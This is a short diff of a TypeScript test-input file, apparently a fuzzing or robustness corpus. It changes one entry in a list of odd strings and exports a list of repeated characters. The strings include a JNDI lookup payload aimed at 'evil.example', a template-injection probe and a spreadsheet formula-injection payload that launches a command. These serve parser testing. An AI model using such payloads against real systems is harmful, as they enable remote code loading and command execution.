@@ -136,7 +136,7 @@ const odd: readonly string[] = [
   'bnVsbA',
   'WyJpbmZpbml0eSIsIngiXQ',
   'WyIyOTQyNzctMDEtMDEiLCIwMTkwMDAwMC0wMDAwLTcwMDAtODAwMC0wMDAwMDAwMDAwMDAiXQ',
-  '${jndi:ldap://evil.example/a}',
+  `$${'{jndi:ldap://evil.example/a}'}`,
   '{{7*7}}',
   '=cmd|/c calc!A1',
   '@evil',
@@ -160,7 +160,7 @@ const odd: readonly string[] = [
 ];
 
 /** What is written again and again: each is slow in a reader that looks back, or deep in one that calls itself. */
-const again: readonly string[] = [
+export const again: readonly string[] = [
   ...'[ ( { < > ] ) } * _ ` ~ # | & ; : @ . , - + = ! ? / \\ " \' ^ $ a 0'.split(' '),
   ' ',
   '\n',
